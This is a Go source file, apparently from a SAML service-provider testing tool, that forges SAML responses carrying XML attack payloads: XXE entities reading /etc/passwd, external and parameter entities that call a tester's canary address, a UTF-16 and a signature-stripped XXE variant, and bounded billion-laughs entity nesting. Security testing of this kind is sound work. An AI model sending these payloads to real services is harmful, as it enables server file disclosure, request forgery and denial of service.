package forge

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

// documents is what XML itself can do to a parser before any signature is looked at. The
// entities are used in the StatusMessage of an error, which services like to show.
func documents() []Forgery {
	forged := func(name, row, text string, forge func([]byte, Donor) ([]byte, error)) Forgery {
		return Forgery{Name: name, Requirement: "SAML-SP-XML-" + row, Text: text, forge: forge}
	}
	return []Forgery{
		forged("doctype", "DOCTYPE", "the genuine message has a document type declaration before it", func(genuine []byte, _ Donor) ([]byte, error) {
			return append([]byte("<!DOCTYPE samlp:Response>\n"), genuine...), nil
		}),
		forged("entity-file", "XXE-FILE", "an entity is a file of the server", entity(func(Donor) string { return `<!ENTITY x SYSTEM "file:///etc/passwd">` })),
		forged("entity-url", "XXE-SSRF", "an entity is at an address of the forger's", entity(func(d Donor) string { return `<!ENTITY x SYSTEM "` + escape(d.Canary) + `">` })),
		forged("entity-parameter", "XXE-SSRF", "a parameter entity is at an address of the forger's", entity(func(d Donor) string {
			return `<!ENTITY % p SYSTEM "` + escape(d.Canary) + `"> %p; <!ENTITY x "">`
		})),
		forged("entity-utf16", "XXE-ENCODING", "an entity is a file of the server, and all is in UTF-16", func(genuine []byte, d Donor) ([]byte, error) {
			made, err := entity(func(Donor) string { return `<!ENTITY x SYSTEM "file:///etc/passwd">` })(genuine, d)
			if err != nil {
				return nil, err
			}
			return inUTF16(`<?xml version="1.0" encoding="UTF-16"?>` + string(made)), nil
		}),
		forged("entity-unsigned", "XXE-PRESIG", "an entity is a file of the server, and nothing is signed", func(genuine []byte, d Donor) ([]byte, error) {
			stripped, err := after(unsign)(genuine, d)
			if err != nil {
				return nil, err
			}
			return entity(func(Donor) string { return `<!ENTITY x SYSTEM "file:///etc/passwd">` })(stripped, d)
		}),
		forged("entities-nested", "BILLION", "a million entities are hidden in one another", entity(func(Donor) string { return nested("", "&") })),
		forged("entities-nested-parameters", "BILLION", "a million parameter entities are hidden in one another", entity(func(Donor) string {
			return nested("% ", "&#37;") + `<!ENTITY x "%x;">`
		})),
	}
}

// entity makes the message one of an error, with the entity x in its StatusMessage.
func entity(declare func(Donor) string) func([]byte, Donor) ([]byte, error) {
	const placeholder = "the-entity-goes-here"
	return func(genuine []byte, d Donor) ([]byte, error) {
		made, err := after(
			set("./Status/StatusCode", "Value", "urn:oasis:names:tc:SAML:2.0:status:Responder"),
			add("./Status", -1, `<samlp:StatusMessage>`+placeholder+`</samlp:StatusMessage>`),
		)(genuine, d)
		if err != nil {
			return nil, err
		}
		made = bytes.Replace(made, []byte(placeholder), []byte("&x;"), 1)
		return fmt.Appendf(nil, "<!DOCTYPE samlp:Response [%s]>\n%s", declare(d), made), nil
	}
}

// nested declares x as a million letters: enough to be seen, too few to do harm.
func nested(kind, ref string) string {
	var b strings.Builder
	b.WriteString(`<!ENTITY ` + kind + `e0 "a">`)
	for i := 1; i <= 6; i++ {
		name := fmt.Sprintf("e%d", i)
		if i == 6 {
			name = "x"
		}
		fmt.Fprintf(&b, `<!ENTITY %s%s "%s">`, kind, name, strings.Repeat(fmt.Sprintf("%se%d;", ref, i-1), 10))
	}
	return b.String()
}

// inUTF16 writes text in UTF-16, little end first, with a byte order mark.
func inUTF16(s string) []byte {
	raw := []byte{0xff, 0xfe}
	for _, unit := range utf16.Encode([]rune(s)) {
		raw = binary.LittleEndian.AppendUint16(raw, unit)
	}
	return raw
}
